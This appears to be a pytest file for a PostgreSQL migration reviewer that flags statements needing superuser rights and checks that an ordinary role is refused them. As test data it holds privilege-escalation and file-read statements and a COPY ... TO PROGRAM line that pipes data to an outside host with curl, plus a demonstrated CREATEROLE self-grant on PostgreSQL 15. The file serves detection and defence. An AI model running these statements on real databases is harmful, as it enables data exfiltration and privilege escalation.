"""Statements that need a superuser are rules of `check` and `review` without --pg, and PostgreSQL refuses them."""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import psycopg
import pytest

from _corpus import corpus_root
from bcastsim.cli import main
from bcastsim.findings import Severity
from bcastsim.pg import UNTRUSTED_ROLE, EphemeralPostgres
from bcastsim.review import Report, ReviewConfig, check, review
from bcastsim.review._danger import PRIVILEGE_RULE_IDS, UNSUPPRESSIBLE
from bcastsim.sqlmodel import PRIVILEGED_KINDS, load_catalog, load_catalog_text

ROOT = Path(__file__).resolve().parents[1]
FIXTURES = ROOT / "tests" / "fixtures" / "sql" / "privileged"
# The rules' unsafe and safe examples, with the other rules' (tests/test_review_rules.py runs them too).
RULE_FIXTURES = ROOT / "tests" / "fixtures" / "sql" / "review" / "rules"
KINDS = sorted(PRIVILEGE_RULE_IDS)


def _marked_lines(path: Path, kind: str) -> list[int]:
    """The lines a fixture marks with ``-- expect: KIND``: where its findings must be."""
    return [n for n, line in enumerate(path.read_text().splitlines(), start=1) if f"-- expect: {kind}" in line]


def _privileged_found(report: Report) -> list[tuple[str, int | None, str]]:
    """(file name, line, rule) of each privilege finding, sorted."""
    return sorted(
        (Path(e.finding.path or "").name, e.finding.line, e.finding.rule)
        for e in report.entries
        if e.finding.rule in PRIVILEGE_RULE_IDS
    )


def test_every_kind_has_a_rule() -> None:
    """The catalog's kinds and the rules are the same set."""
    assert set(PRIVILEGED_KINDS) == PRIVILEGE_RULE_IDS


@pytest.mark.parametrize("kind", KINDS)
def test_the_safe_counterpart_draws_none(kind: str) -> None:
    """STDIN/STDOUT, trusted extensions, RESET ROLE, the project's own same-named functions: no finding."""
    report = check([RULE_FIXTURES / f"{kind}.safe.sql"])
    assert [e.finding.message for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS] == []


@pytest.mark.parametrize("kind", KINDS)
def test_each_statement_kind_is_an_error_where_it_sits(kind: str) -> None:
    """Top level, DO bodies, PL/pgSQL and SQL function bodies and EXECUTEd constants: each use, on its own line."""
    path = RULE_FIXTURES / f"{kind}.unsafe.sql"
    report = check([path])
    found = [e.finding for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert {f.rule for f in found} == {kind}, [f.message for f in found]
    assert sorted(f.line for f in found if f.line is not None) == _marked_lines(path, kind)
    assert all(f.severity.value == "error" for f in found)
    assert all("escalation attempt" in f.message for f in found)
    assert report.exit_status == 1


def test_a_refusal_swallowed_by_an_exception_block_says_which() -> None:
    """WHEN OTHERS and WHEN SQLSTATE '42501' that do not re-raise are named by line; a re-raise is not."""
    report = check([FIXTURES / "swallowed.sql"])
    messages = {e.finding.line: e.finding.message for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS}
    assert set(messages) == {6, 11, 17}
    assert "swallowed by the EXCEPTION at line 7" in messages[6]
    assert "swallowed" not in messages[11]  # insufficient_privilege, re-raised
    # The inner block catches only division_by_zero: the outer one's 42501 handler swallows it.
    assert "swallowed by the EXCEPTION at line 20" in messages[17]


def test_a_comment_in_the_reviewed_files_cannot_suppress_it(tmp_path: Path) -> None:
    """ignore[...] and ignore-file[...] leave the error in place and say that they cannot suppress it."""
    source = (RULE_FIXTURES / "copy-program.unsafe.sql").read_text()
    path = tmp_path / "hostile.sql"
    hidden = source.replace("-- expect: copy-program", "-- bcastsim: ignore[copy-program]")
    path.write_text("-- bcastsim: ignore-file[copy-program]\n" + hidden)
    report = check([path])
    assert sum(e.finding.rule == "copy-program" for e in report.entries) == 4
    assert report.suppressed == 0
    notes = [e.finding.message for e in report.entries if e.finding.rule == "unused-suppression"]
    assert notes
    assert all("cannot be suppressed" in note for note in notes)
    assert report.exit_status == 1


def test_the_reviewed_configuration_cannot_turn_it_off_or_lower_it() -> None:
    """disable, an enable list without it and a lower severity leave each privilege rule an error."""
    path = RULE_FIXTURES / "copy-program.unsafe.sql"
    for config in (
        ReviewConfig(disable=frozenset(KINDS)),
        ReviewConfig(enable=frozenset({"exception-swallowed"})),
        ReviewConfig(severity={kind: Severity.NOTE for kind in KINDS}),
    ):
        found = [e.finding for e in check([path], config=config).entries if e.finding.rule == "copy-program"]
        assert found, config
        assert {f.severity for f in found} == {Severity.ERROR}, config


@pytest.mark.parametrize("kind", KINDS)
def test_no_privilege_rule_can_be_silenced_by_the_reviewed_repository(tmp_path: Path, kind: str) -> None:
    """Every privilege rule, the role and event-trigger ones included, is unsuppressible: comments and config."""
    assert kind in UNSUPPRESSIBLE
    source = (RULE_FIXTURES / f"{kind}.unsafe.sql").read_text()
    path = tmp_path / "hostile.sql"
    path.write_text(
        f"-- bcastsim: ignore-file[{kind}]\n" + source.replace(f"-- expect: {kind}", f"-- bcastsim: ignore[{kind}]")
    )
    config = ReviewConfig(disable=frozenset({kind}), severity={kind: Severity.NOTE})
    found = [e.finding for e in check([path], config=config).entries if e.finding.rule == kind]
    assert len(found) == len(_marked_lines(RULE_FIXTURES / f"{kind}.unsafe.sql", kind))
    assert {f.severity for f in found} == {Severity.ERROR}


def test_review_reports_what_the_new_version_adds(tmp_path: Path) -> None:
    """An old COPY … PROGRAM is not reported again; the one the change adds is, as introduced."""
    old = tmp_path / "old.sql"
    new = tmp_path / "new.sql"
    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'true';\n")
    new.write_text(old.read_text() + "ALTER SYSTEM SET work_mem = '1GB';\n")
    report = review(str(old), str(new))
    introduced = [(e.state, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert introduced == [("introduced", "alter-system")]
    assert report.exit_status == 1


def test_review_reports_a_changed_statement_as_new(tmp_path: Path) -> None:
    """COPY … PROGRAM 'gzip' become 'curl …' in the same place is introduced, not paired away with the old one."""
    old = tmp_path / "old.sql"
    new = tmp_path / "new.sql"
    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'gzip > /backup/bids.gz';\n")
    new.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'curl -d @- https://example.invalid';\n")
    report = review(str(old), str(new))
    states = sorted((e.state, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS)
    assert states == [("fixed", "copy-program"), ("introduced", "copy-program")]
    assert report.exit_status == 1


def test_a_grant_of_a_role_the_sql_made_a_superuser_is_reported(tmp_path: Path) -> None:
    """CREATE ROLE r SUPERUSER, then GRANT r or ALTER GROUP r ADD USER in a later file: each hands out superuser."""
    (tmp_path / "0001_roles.sql").write_text(
        "CREATE ROLE root_helper SUPERUSER;\nGRANT root_helper TO authenticated;\n"
    )
    (tmp_path / "0002_more.sql").write_text(
        "CREATE ROLE app_reader NOLOGIN;\nALTER GROUP root_helper ADD USER anon;\nGRANT app_reader TO anon;\n"
    )
    report = check([tmp_path])
    found = _privileged_found(report)
    assert found == [
        ("0001_roles.sql", 1, "privileged-role-attribute"),
        ("0001_roles.sql", 2, "grant-privileged-role"),
        ("0002_more.sql", 2, "grant-privileged-role"),
    ]
    assert any("root_helper (a superuser)" in e.finding.message for e in report.entries)


def test_a_down_migration_is_read_for_what_needs_a_superuser(tmp_path: Path) -> None:
    """A Down part (its markers are the change's own comments) and a .down.sql file: each use is reported, so placed."""
    goose = tmp_path / "0001_bids.sql"
    goose.write_text(
        "-- +goose Up\nCREATE TABLE bids (id int);\n-- +goose Down\nDROP TABLE bids;\n"
        "COPY (SELECT 1) TO PROGRAM 'id';\nDO $$ BEGIN ALTER ROLE anon SUPERUSER; END $$;\n"
    )
    down = tmp_path / "0002_more.down.sql"
    down.write_text("DROP TABLE more;\nGRANT pg_execute_server_program TO anon;\n")
    report = check([goose, down])
    found = _privileged_found(report)
    assert found == [
        ("0001_bids.sql", 5, "copy-program"),
        ("0001_bids.sql", 6, "privileged-role-attribute"),
        ("0002_more.down.sql", 2, "grant-privileged-role"),
    ]
    assert all(
        "in a Down migration" in e.finding.message for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS
    )
    assert report.exit_status == 1


# Per directory convention: the file its tool runs on the way up, and the one it leaves out.
_LEFT_OUT = {
    "golang-migrate": ("1_bids.up.sql", "1_bids.down.sql"),
    "flyway": ("V1__bids.sql", "U1__bids.sql"),
    "sqitch": ("deploy/bids.sql", "revert/bids.sql"),
}


@pytest.mark.parametrize("convention", sorted(_LEFT_OUT))
def test_a_file_the_directory_tool_leaves_out_is_read_for_it(tmp_path: Path, convention: str) -> None:
    """golang-migrate's .down.sql, Flyway's U…__ undo and Sqitch's revert/: each use is reported, so placed."""
    run, left_out = _LEFT_OUT[convention]
    for name, text in (
        (run, "CREATE TABLE bids (id int);\n"),
        (left_out, "DROP TABLE bids;\nALTER SYSTEM RESET ALL;\n"),
    ):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    report = check([tmp_path])
    found = [e.finding for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert [(Path(f.path or "").name, f.line, f.rule) for f in found] == [(Path(left_out).name, 2, "alter-system")]
    assert f"in a file {convention} does not run on the way up" in found[0].message


def test_review_reports_a_down_file_the_change_adds(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """In a golang-migrate directory under git, a .down.sql file the change adds is introduced; the old one is not."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    monkeypatch.chdir(tmp_path)
    (tmp_path / "sql").mkdir()
    (tmp_path / "sql" / "1_bids.up.sql").write_text("CREATE TABLE bids (id int);\n")
    (tmp_path / "sql" / "1_bids.down.sql").write_text("DROP TABLE bids;\nALTER SYSTEM RESET ALL;\n")
    subprocess.run([*_GIT, "init", "-q"], cwd=tmp_path, check=True)
    _commit(tmp_path, "base")
    (tmp_path / "sql" / "2_more.up.sql").write_text("CREATE TABLE more (id int);\n")
    (tmp_path / "sql" / "2_more.down.sql").write_text("COPY (SELECT 1) TO PROGRAM 'id';\nDROP TABLE more;\n")
    _commit(tmp_path, "change")
    report = review("git:HEAD~1:sql/", "sql/")
    found = [(e.state, e.finding.path, e.finding.rule) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert found == [("introduced", "sql/2_more.down.sql", "copy-program")]


_GIT = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]


def _commit(work: Path, message: str) -> None:
    subprocess.run([*_GIT, "add", "-A"], cwd=work, check=True)
    subprocess.run([*_GIT, "commit", "-q", "-m", message], cwd=work, check=True)


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A repository whose base commit has one migration and no configuration."""
    if shutil.which("git") is None:
        pytest.skip("git is not installed")
    work = tmp_path / "repo"
    (work / "sql").mkdir(parents=True)
    (work / "db").mkdir()
    (work / "sql" / "0001_bids.sql").write_text("CREATE TABLE bids (id int);\n")
    subprocess.run([*_GIT, "init", "-q"], cwd=work, check=True)
    _commit(work, "base")
    monkeypatch.chdir(work)
    return work


def test_a_schema_file_named_by_the_change_cannot_hide_it(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A change whose config loads its COPY … PROGRAM as `schema` has it introduced: the old side reads the base's."""
    (repo / "bcastsim.toml").write_text('schema = ["db/setup.sql", "sql/0002_setup.sql"]\n')
    (repo / "db" / "setup.sql").write_text("COPY (SELECT 1) TO PROGRAM 'id';\n")
    (repo / "sql" / "0002_setup.sql").write_text("CREATE TABLE more (id int);\nALTER SYSTEM SET work_mem = '1GB';\n")
    _commit(repo, "change")
    assert main(["review", "git:HEAD~1:sql/", "sql/", "--format", "json"]) == 1
    document = json.loads(capsys.readouterr().out)
    found = sorted((f["state"], f["rule"]) for f in document["findings"] if f["rule"] in PRIVILEGE_RULE_IDS)
    assert found == [("introduced", "alter-system"), ("introduced", "copy-program")]


def test_a_schema_file_the_base_already_had_is_not_reported_again(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The base revision's own schema statement, unchanged, is in both versions: nothing is introduced."""
    (repo / "bcastsim.toml").write_text('schema = ["db/setup.sql"]\n')
    (repo / "db" / "setup.sql").write_text("CREATE TABLE audit (id int);\nCOPY (SELECT 1) TO PROGRAM 'id';\n")
    _commit(repo, "schema")
    (repo / "sql" / "0002_more.sql").write_text("CREATE TABLE more (id int);\n")
    _commit(repo, "change")
    assert main(["review", "git:HEAD~1:sql/", "sql/", "--format", "json"]) == 0
    document = json.loads(capsys.readouterr().out)
    assert [f["rule"] for f in document["findings"] if f["rule"] in PRIVILEGE_RULE_IDS] == []


def test_review_reports_a_second_copy_of_an_old_statement(tmp_path: Path) -> None:
    """A COPY … PROGRAM word for word like one the old version had, added again, is introduced once."""
    old = tmp_path / "old.sql"
    new = tmp_path / "new.sql"
    old.write_text("CREATE TABLE bids (id int);\nCOPY bids TO PROGRAM 'gzip > /backup/bids.gz';\n")
    new.write_text(old.read_text() + "COPY bids TO PROGRAM 'gzip > /backup/bids.gz';\n")
    report = review(str(old), str(new))
    found = [(e.state, e.finding.line) for e in report.entries if e.finding.rule in PRIVILEGE_RULE_IDS]
    assert len(found) == 1
    assert found[0][0] == "introduced"
    assert report.exit_status == 1


def test_a_privilege_rule_keeps_its_severity_under_every_spelling_of_the_override() -> None:
    """severity_of and its former name severity_for both leave a privilege rule at error."""
    config = ReviewConfig(severity={kind: Severity.NOTE for kind in KINDS})
    assert {config.severity_of(kind, Severity.ERROR) for kind in KINDS} == {Severity.ERROR}
    assert {config.severity_for(kind, Severity.ERROR) for kind in KINDS} == {Severity.ERROR}


def test_cli_check_exits_1_with_the_finding(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """`bcastsim check` on a file with a COPY … PROGRAM prints the error and exits 1."""
    path = tmp_path / "hostile.sql"
    shutil.copy(RULE_FIXTURES / "copy-program.unsafe.sql", path)
    assert main(["check", str(path)]) == 1
    assert "error[copy-program]" in capsys.readouterr().out


def test_the_real_world_corpus_holds_only_the_platforms_own() -> None:
    """Trigger SQL from 20 public projects: the uses are platforms' own setup, run as their superuser."""
    root = corpus_root()
    if root is None:
        pytest.skip("the real-world corpus (../shared/realworld) is not beside the checkout")
    uses = []
    for path in sorted(root.rglob("*.sql")):
        try:
            catalog = load_catalog(path)
        except Exception:
            continue
        uses += [(path.name, use.function or "", use.kind) for use in catalog.privileged]
    postgrest_watch = ["event-trigger"] * 2  # pgrst_ddl_watch, pgrst_drop_watch
    assert sorted(uses) == sorted(
        [
            # PostGraphile's schema watch and PostgREST's schema-cache reload: event triggers an administrator installs.
            ("watch-fixtures.sql", "", "event-trigger"),
            ("watch-fixtures.sql", "", "event-trigger"),
            *[("20220126121436_finer-postgrest-triggers.sql", "", kind) for kind in postgrest_watch],
            *[("20220321174452_fix-postgrest-alter-type-event-trigger.sql", "", kind) for kind in postgrest_watch],
            # Supabase's image: its extension-access event triggers, and the role pg_net's grant function creates.
            *[("schema-15.sql", "", "event-trigger")] * 6,
            ("schema-15.sql", "extensions.grant_pg_net_access", "privileged-role-attribute"),
            # set_config('role', trim(both '"' from working_role::text), true): a real switch, made by the platform.
            ("tenant_db_dump_15.sql", "realtime.apply_rls", "set-role"),
        ]
    )


# -- measured: PostgreSQL refuses each kind to a role that is no superuser --------------------------------

# A statement of each kind, and the SQLSTATE PostgreSQL 15 refuses it with for an ordinary role.
_REFUSED = {
    "copy-program": ("COPY (SELECT 1) TO PROGRAM 'true'", "42501"),
    "copy-server-file": ("COPY (SELECT 1) TO '/tmp/bcastsim-refused.csv'", "42501"),
    "server-file-access": ("SELECT pg_read_file('postgresql.conf')", "42501"),
    "large-object-file": ("SELECT lo_import('/etc/hostname')", "42501"),
    "alter-system": ("ALTER SYSTEM SET work_mem = '77MB'", "42501"),
    "dangerous-extension": ("CREATE EXTENSION file_fdw", "42501"),
    "untrusted-language": ("CREATE FUNCTION bcastsim_abs(int) RETURNS int LANGUAGE c AS 'libc.so.6', 'abs'", "42501"),
    "set-role": ("SET SESSION AUTHORIZATION {superuser}", "42501"),
    "dblink": ("SELECT dblink_connect('dbname=postgres')", "2F003"),
    "grant-privileged-role": ("GRANT pg_execute_server_program TO CURRENT_USER", "42501"),
    "privileged-role-attribute": ("CREATE ROLE bcastsim_refused_root SUPERUSER", "42501"),
    # CreateEventTrigger checks for a superuser before it looks the function up.
    "event-trigger": (
        "CREATE EVENT TRIGGER bcastsim_refused ON ddl_command_end EXECUTE FUNCTION bcastsim_none()",
        "42501",
    ),
}
# The other forms of the role rules, each refused too.
_REFUSED_FORMS = [
    ("grant-privileged-role", "GRANT pg_read_server_files TO CURRENT_USER"),
    ("grant-privileged-role", "GRANT pg_write_server_files TO CURRENT_USER"),
    ("grant-privileged-role", "GRANT pg_signal_backend TO CURRENT_USER"),
    ("grant-privileged-role", "CREATE ROLE bcastsim_refused_member IN ROLE pg_read_server_files"),
    ("privileged-role-attribute", "CREATE ROLE bcastsim_refused_rls BYPASSRLS"),
    ("privileged-role-attribute", "CREATE USER bcastsim_refused_replica REPLICATION"),
    ("privileged-role-attribute", "ALTER ROLE CURRENT_USER SUPERUSER"),
    ("privileged-role-attribute", "ALTER ROLE CURRENT_USER BYPASSRLS"),
    ("privileged-role-attribute", "ALTER ROLE CURRENT_USER REPLICATION"),
    ("privileged-role-attribute", "ALTER ROLE CURRENT_USER CREATEROLE"),
]


@pytest.mark.postgres
@pytest.mark.parametrize("kind", KINDS)
def test_postgresql_refuses_each_kind_to_an_ordinary_role(bcastsim_server: EphemeralPostgres, kind: str) -> None:
    """The rule's claim, measured: run as the unprivileged role, each statement is refused with its SQLSTATE."""
    statement, sqlstate = _REFUSED[kind]
    name = f"bcastsim_refused_{kind.replace('-', '_')}"
    database = bcastsim_server.create_database(name=name, untrusted=True)
    database.close()
    try:
        if kind == "dblink":  # installed by the superuser, as a platform would: the call itself is refused
            bcastsim_server.execute("CREATE EXTENSION dblink", name)
        with psycopg.connect(bcastsim_server.conninfo(name, UNTRUSTED_ROLE), autocommit=True) as connection:
            superuser = connection.execute("SELECT rolname FROM pg_roles WHERE rolsuper LIMIT 1").fetchone()
            assert superuser is not None
            with pytest.raises(psycopg.Error) as refused:
                connection.execute(statement.format(superuser=superuser[0]))
        assert refused.value.sqlstate == sqlstate, refused.value
    finally:
        bcastsim_server.drop_database(name)


@pytest.mark.postgres
@pytest.mark.parametrize(("kind", "statement"), _REFUSED_FORMS)
def test_postgresql_refuses_each_role_form_to_an_ordinary_role(
    bcastsim_server: EphemeralPostgres, kind: str, statement: str
) -> None:
    """Every form the role rules report is refused to the unprivileged role with 42501, and is reported."""
    assert [use.kind for use in load_catalog_text(statement + ";\n").privileged] == [kind]
    name = "bcastsim_refused_role_forms"
    database = bcastsim_server.create_database(name=name, untrusted=True)
    database.close()
    try:
        with (
            psycopg.connect(bcastsim_server.conninfo(name, UNTRUSTED_ROLE), autocommit=True) as connection,
            pytest.raises(psycopg.Error) as refused,
        ):
            connection.execute(statement)
        assert refused.value.sqlstate == "42501", refused.value
    finally:
        bcastsim_server.drop_database(name)


@pytest.mark.postgres
def test_no_role_may_add_members_to_a_predefined_role_with_alter_group(bcastsim_server: EphemeralPostgres) -> None:
    """Why ALTER GROUP pg_… ADD USER is not reported: PostgreSQL refuses it to the superuser too (42939)."""
    with pytest.raises(psycopg.Error) as refused:
        bcastsim_server.execute("ALTER GROUP pg_execute_server_program ADD USER CURRENT_USER")
    assert refused.value.sqlstate == "42939", refused.value


@pytest.mark.postgres
def test_a_createrole_role_grants_itself_the_program_role_in_postgresql_15(bcastsim_server: EphemeralPostgres) -> None:
    """Why CREATEROLE is reported: in PostgreSQL 15 a role holding it joins pg_execute_server_program on its own."""
    role = "bcastsim_createrole_probe"
    bcastsim_server.execute(f"CREATE ROLE {role} LOGIN CREATEROLE")
    try:
        with psycopg.connect(bcastsim_server.conninfo("postgres", role), autocommit=True) as connection:
            version = connection.execute("SHOW server_version_num").fetchone()
            assert version is not None
            if int(version[0]) >= 160000:
                pytest.skip("PostgreSQL 16 asks CREATEROLE for ADMIN OPTION on the role granted")
            connection.execute(f"GRANT pg_execute_server_program TO {role}")
            member = connection.execute("SELECT pg_has_role('pg_execute_server_program', 'USAGE')").fetchone()
        assert member == (True,)
    finally:
        bcastsim_server.execute(f"DROP ROLE {role}")


def test_role_names_with_braces_are_shown_as_written() -> None:
    """A quoted role name holding braces is part of the message, never read as a placeholder."""
    catalog = load_catalog_text(
        'CREATE ROLE "x{roles}" IN ROLE pg_read_server_files;\nGRANT pg_signal_backend TO "{0}";\n'
    )
    assert [use.what for use in catalog.privileged] == [
        "CREATE ROLE x{roles} IN ROLE pg_read_server_files",
        "GRANT pg_signal_backend TO {0}",
    ]
